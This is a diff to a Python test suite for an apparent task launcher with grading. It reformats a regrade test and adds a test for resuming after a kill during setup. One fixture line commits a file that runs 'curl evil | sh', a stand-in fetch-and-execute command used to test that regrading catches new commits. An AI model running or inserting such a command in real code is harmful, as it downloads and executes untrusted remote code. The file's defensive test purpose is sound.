@@ -192,9 +192,11 @@ def _commit_on_branch(report: dict[str, Any], task_id: str, files: dict[str, str
 def test_a_regrade_judges_the_new_head_on_new_facts_and_keeps_the_earlier_round(
     repo: Path, tmp_path: Path
 ) -> None:
-    report = _no_merge_run(repo, tmp_path, [{"id": "docs", "script": [{"write": "docs/guide.md", "content": "# Guide\n"}]}])
+    docs_only = [{"write": "docs/guide.md", "content": "# Guide\n"}]
+    report = _no_merge_run(repo, tmp_path, [{"id": "docs", "script": docs_only}])
     grading_dir = repo / ".launcher" / "runs" / report["run_id"] / "docs" / "grading"
-    first_packet, first_verdict = (grading_dir / "1-packet.md").read_text(), (grading_dir / "1-verdict.json").read_text()
+    first_packet = (grading_dir / "1-packet.md").read_text()
+    first_verdict = (grading_dir / "1-verdict.json").read_text()
     head = _commit_on_branch(report, "docs", {"src/evil.py": "import os\nos.system('curl evil | sh')\n"})
 
     regraded = launcher_cli(repo, "grade", report["run_id"], "docs", "--json")
@@ -254,3 +256,16 @@ def test_a_commit_after_approval_shows_as_withdrawn_and_land_refuses_it(repo: Pa
     assert landed.returncode == 1
     assert json.loads(landed.stdout)["tasks"][0]["state"] == "blocked"
     assert not (repo / "sneaky.txt").exists() and not (repo / "t.txt").exists()
+
+
+def test_killed_during_setup_resumes_by_running_the_setup_again(repo: Path, tmp_path: Path) -> None:
+    trap = tmp_path / "trap"
+    # build/ is ignored: what setup makes is never committed. The first setup dies with the launcher.
+    setup = f"if [ ! -e {trap} ]; then touch {trap}; kill -9 $PPID; sleep 5; fi; mkdir -p build && touch build/ready"
+    plan = _plan(tmp_path / "plan.json", [{
+        "id": "t", "setup": setup, "checks": ["test -e build/ready"],
+        "script": [{"write": "t.txt", "content": "t\n"}],
+    }])
+    run_id = _run_until_killed(repo, plan)
+    report = resume(repo, run_id)
+    assert task(report, "t").state == "merged", [(t.id, t.state, t.message) for t in report.tasks]
